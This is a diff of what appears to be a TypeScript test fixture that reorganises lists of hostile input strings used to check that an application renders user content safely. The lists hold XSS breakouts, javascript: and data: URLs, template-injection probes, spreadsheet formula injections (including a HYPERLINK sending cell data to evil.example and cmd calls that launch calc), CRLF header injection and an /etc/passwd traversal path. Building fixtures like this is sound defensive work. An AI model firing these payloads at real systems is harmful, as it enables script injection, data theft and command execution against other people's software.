@@ -4,8 +4,28 @@
  * become something else than text wherever it is printed; where it ran, it would set `__ran`.
  */
 
-/** One line each, of visible characters: every text of the content takes them, and shows them. */
-export const hostileTexts = [
+/** Words that programs have a meaning for, and words without end. */
+export const wholeTexts = ['__proto__', 'constructor', 'hasOwnProperty', 'W'.repeat(200)] as const;
+
+/** Texts that become something else by how they begin: addresses, formulas, paths. */
+export const beginnings = [
+  'javascript:__ran=1//',
+  'data:text/html,<script>opener.__ran=1</script>',
+  'vbscript:msgbox(1)//',
+  '//evil.example/x',
+  '\\\\evil.example\\share\\x',
+  'https://bank.example@evil.example/',
+  'https://аррӏе.example/',
+  "=cmd|' /C calc'!A0",
+  '+HYPERLINK("https://evil.example?"&A1,"x")',
+  "-cmd|' /C calc'!A0",
+  "@SUM(A1:A9)*cmd|' /C calc'!A0",
+  '＝cmd|full width!A',
+  '../../../../etc/passwd',
+] as const;
+
+/** Texts that break out wherever they stand. */
+export const breakouts = [
   // Out of elements
   '</title></style></textarea></script><script>__ran=1</script>',
   '<img src=x onerror=__ran=1>',
@@ -25,45 +45,25 @@ export const hostileTexts = [
   '` onclick=`__ran=1` x=`',
   // Entities, whole and broken
   '&lt;script&gt;__ran=1&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp &notin; &',
-  '&#x6A;avascript:__ran=1//&Tab;&NewLine;',
-  // Addresses, where a text becomes one
-  'javascript:__ran=1//',
-  'JaVaScRiPt&colon;__ran=1//%0a',
-  'data:text/html,<script>opener.__ran=1</script>',
-  'vbscript:msgbox(1)//',
-  '//evil.example/x',
-  '\\\\evil.example\\share\\x',
-  'https://bank.example@evil.example/',
-  'https://аррӏе.example/',
-  // Templates, scripts and styles
-  "{{constructor.constructor('__ran=1')()}}",
-  '${globalThis.__ran=1}#{7*7}<%=7*7%>{%7*7%}',
+  '&#x6A;avascript:__ran=1//&Tab;&NewLine;JaVaScRiPt&colon;__ran=1//%0a',
+  // Templates, scripts, styles and Markdown
+  "{{constructor.constructor('__ran=1')()}}${globalThis.__ran=1}#{7*7}<%=7*7%>{%7*7%}",
   "\\u003cscript\\u003e__ran=1\\x3c/script>';__ran=1;//",
   'x{}*{background:url(//evil.example/x)}@import "//evil.example/x.css";',
-  // Markdown
   '[x](javascript:__ran=1) ![x](//evil.example/x.png) <https://evil.example>',
-  // Spreadsheets
-  "=cmd|' /C calc'!A0",
-  '+HYPERLINK("https://evil.example?"&A1,"x")',
-  "-cmd|' /C calc'!A0",
-  "@SUM(A1:A9)*cmd|' /C calc'!A0",
-  '＝cmd|full width!A',
+  // Tables, calendars and headers
   'x;=cmd|A0!B;+x;"=y"',
   'x","=cmd|A0!B","y',
-  // Calendars and headers
-  'END:VEVENT\\nBEGIN:VALARM\\nTRIGGER;VALUE=DATE:x;\\, ^n\\',
   'x%0D%0ASet-Cookie: x=y%0D%0A%0D%0A%E0%A4%A%00%C0%AF%',
+  'END:VEVENT\\nBEGIN:VALARM\\nTRIGGER;VALUE=DATE:x;\\, ^n\\',
   `é${'😀ễ漢'.repeat(30)}`,
-  // Writing from right to left, marks on marks, joined signs, words without end
+  // Writing from right to left, marks on marks, joined signs
   'שלום <b>עולם</b> (2026) "a" - العربية',
   'می‌خواهم 👨‍👩‍👧‍👦 Z̡̢̛̖̗a̴l̷g̸o',
-  'W'.repeat(200),
-  // Names that programs have a meaning for
-  '__proto__',
-  'constructor',
-  'hasOwnProperty',
-  '../../../../etc/passwd',
 ] as const;
+
+/** Lines of visible characters: every text of the content takes them, and shows them. */
+export const hostileTexts: readonly string[] = [...wholeTexts, ...beginnings, ...breakouts];
 
 /** Characters that no reader sees, or that turn what stands around them: no text may hold them. */
 export const refusedCharacters = {
